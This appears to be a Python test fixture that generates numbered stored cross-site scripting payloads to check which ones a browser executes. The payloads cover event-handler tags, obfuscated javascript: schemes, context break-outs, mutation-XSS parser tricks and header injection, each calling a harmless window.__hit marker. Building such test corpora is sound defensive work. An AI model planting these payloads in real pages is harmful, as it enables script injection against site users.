"""Stored cross-site scripting: markup of the known classes that calls `window.__hit()` where nobody escapes or cleans it.

Each call tells the payload's number, so that a browser can say which ones ran. HOSTILE_MORE names a file with more of them, as a
JSON list of texts.
"""

import json
import os
from collections.abc import Iterator
from html import escape
from itertools import product
from pathlib import Path

CALL = "window.__hit(%d)"
# Elements that run something by themselves, with the event that they have.
BY_THEMSELVES = {
    "img src=x": "onerror", "svg": "onload", "body": "onload", "video src=x": "onerror", "audio src=x": "onerror",
    "iframe src=about:blank": "onload", "input autofocus": "onfocus", "select autofocus": "onfocus", "details open": "ontoggle",
    "object data=x": "onerror", "embed src=x": "onload", "link rel=stylesheet href=x": "onerror", "style": "onload",
    "marquee": "onstart", "script src=x": "onerror", "a tabindex=1 autofocus": "onfocus", "p contenteditable autofocus": "onfocus",
    "source src=x": "onerror", "image src=x": "onerror", "math tabindex=1 autofocus": "onfocus", "textarea autofocus": "onfocus",
    "button autofocus": "onfocus", "figure tabindex=1 autofocus": "onfocus", "blockquote tabindex=1 autofocus": "onfocus",
}  # fmt: skip
# How the call stands in the tag.
SPELLINGS = (
    " {event}={call}>", ' {event}="{call}">', " {event}='{call}'>", "/{event}={call}>", "\t{event}\n=\r{call}\x0c>", " {EVENT}={call}>",
    " {event}={coded}>", " {event}={hexed}>", " {event}=`{call}`>", " x='>' {event}={call}>", ' x=">" {event}={call}//', " {event}={call} ",
    "\x00{event}={call}>", " style='animation:x' onanimationstart={call} {event}={call}>",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;",
    "java&Tab;script:", "\x01javascript:", "&#1;javascript:", "\u00a0javascript:", " javascript:", "javascript&#58;", "javas\x00cript:",
    "data:text/html,<script>{call}</script>", "vbscript:", "javascript:/*--></title></style>*/", "view-source:javascript:", "//x\njavascript:",
    "\u200bjavascript:", "javascript\uff1a", "feed:javascript:", "blob:javascript:",
)  # fmt: skip
LINKS = (
    '<a href="{url}" autofocus>x</a>', "<a href='{url}'>x</a>", "<iframe src=\"{url}\"></iframe>", '<form action="{url}"><input type=submit></form>',
    '<object data="{url}"></object>', '<embed src="{url}">', '<svg><a xlink:href="{url}"><text>x</text></a></svg>', '<math href="{url}">x</math>',
    '<base href="{url}">', '<meta http-equiv=refresh content="0;url={url}">', '<button formaction="{url}">x</button>', '<img src="{url}">',
    '<svg><use href="{url}"/></svg>', '<a href="/" ping="{url}">x</a>', '<blockquote cite="{url}">x</blockquote>', "[x]({url})",
    '<svg><animate attributeName=href values="{url}"/></svg>', '<link rel=import href="{url}">', '<area href="{url}">',
)  # fmt: skip
# What the words may stand in: each ends that and begins a tag, or goes on in the script.
BREAK_OUTS = (
    "{tag}", '">{tag}', "'>{tag}", "`>{tag}", "-->{tag}", "--!>{tag}", "]]>{tag}", "</title>{tag}", "</textarea>{tag}", "</style>{tag}", "</script>{tag}",
    "</SCRIPT\t>{tag}", "</noscript>{tag}", "</template>{tag}", "</iframe>{tag}", "</xmp>{tag}", "</select>{tag}", "</p></div></main>{tag}", "?>{tag}",
    "%>{tag}", "\\\">{tag}", "\\u003c/script\\u003e{tag}", "<!--<script>{tag}", "<![CDATA[{tag}]]>", "<!--[if IE]>{tag}<![endif]-->", "&lt;{tag}",
    "&amp;lt;{tag}", "<<{tag}", "<\x00{tag}", "<p title='{tag}'>", '<p title="</p>{tag}">', "<svg><style>{tag}", "<math><mtext></form><form><mglyph><style></math>{tag}",
    "<math><mtext><table><mglyph><style><!--</style>{tag}", "<svg></p><style><a id=\"</style>{tag}\">", "<noscript><p title=\"</noscript>{tag}\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>{tag}\">", "<svg><desc>{tag}", "<svg><foreignObject>{tag}",
    "<svg><title>{tag}", "<table><td>{tag}", "<table>{tag}<tr>", "<select><template>{tag}", "<template><div>{tag}", "<div><template shadowrootmode=open>{tag}",
    "<math><annotation-xml encoding=\"text/html\">{tag}", "<style><!--</style>{tag}-->", "<xmp></xmp>{tag}", "<plaintext>{tag}", "<listing>{tag}",
    "<figure data-photo='1' data-caption='{tag}'></figure>", "<aside class=\"fact-box\">{tag}</aside>", "<frameset>{tag}", "<u\n\n>{tag}</u>",
    "<a href=\"https://x/\"\n{tag}>", "<p><b><i><u><s><a><p>{tag}", "\ufeff{tag}", "+ADw-script+AD4-{tag}", "\u2028{tag}",
)  # fmt: skip
TAGS = (
    "<script>{call}</script>", "<img src=x onerror={call}>", "<svg/onload={call}>", "<SCRIPT>{call}</SCRIPT >", "<svg><script>{call}</script></svg>",
    "<svg><script>{coded}</script></svg>", "<iframe srcdoc='&lt;script&gt;parent.{hit}&lt;/script&gt;'></iframe>", "<script type=module>{call}</script>",
    "<details open ontoggle={call}>", "<svg><animate onbegin={call} attributeName=x dur=1s>", "<svg><set onbegin={call}>", "<scr<script>ipt>{call}</script>",
)  # fmt: skip
# Where words are put into a script, a style sheet, a template or a text for other programs.
OTHERS = (
    "';{call};//", '";{call};//', "\\';{call};//", "${{call}}", "`-{call}-`", "'-{call}-'", '"-{call}-"', "\n{call}\n", "*/{call}/*", "//\u2028{call}", "{{constructor.constructor('{call}')()}}",
    "{% debug %}{call}", "<style>@import 'javascript:{call}';</style>", "<p style=\"background:url(javascript:{call})\">", "<p style='width:expression({call})'>",
    "}}</style><script>{call}</script>", '"}]}</script><script>{call}</script><script>', "</script><!--<script>{call}</script>", "<?xml-stylesheet href='javascript:{call}'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>", "<!DOCTYPE x [<!ENTITY y '<script>{call}</script>'>]>&y;", "\r\nContent-Type: text/html\r\n\r\n<script>{call}</script>",
)  # fmt: skip


def _all() -> Iterator[str]:
    for (element, event), spelling in product(BY_THEMSELVES.items(), SPELLINGS):
        yield f"<{element}" + spelling.replace("{event}", event).replace("{EVENT}", event.upper())
    for link, scheme in product(LINKS, SCHEMES):
        url = scheme if "{call}" in scheme else f"{scheme}{{call}}"
        yield link.replace("{url}", escape(url))
        yield link.replace("{url}", url)
    for broken, tag in product(BREAK_OUTS, TAGS):
        yield broken.replace("{tag}", tag)
    yield from OTHERS


def _numbered(payload: str, number: int) -> str:
    call = CALL % number
    coded, hexed = ("".join(form % ord(c) for c in call) for form in ("&#%d;", "&#x%x;"))
    for name, value in {"call": call, "coded": coded, "hexed": hexed, "hit": call.partition(".")[2]}.items():
        payload = payload.replace(f"{{{name}}}", value)
    return payload


OURS = [_numbered(payload, number) for number, payload in enumerate(dict.fromkeys(_all()))]
MORE = os.environ.get("HOSTILE_MORE")
PAYLOADS = [*OURS, *(json.loads(Path(MORE).read_text()) if MORE else ())]
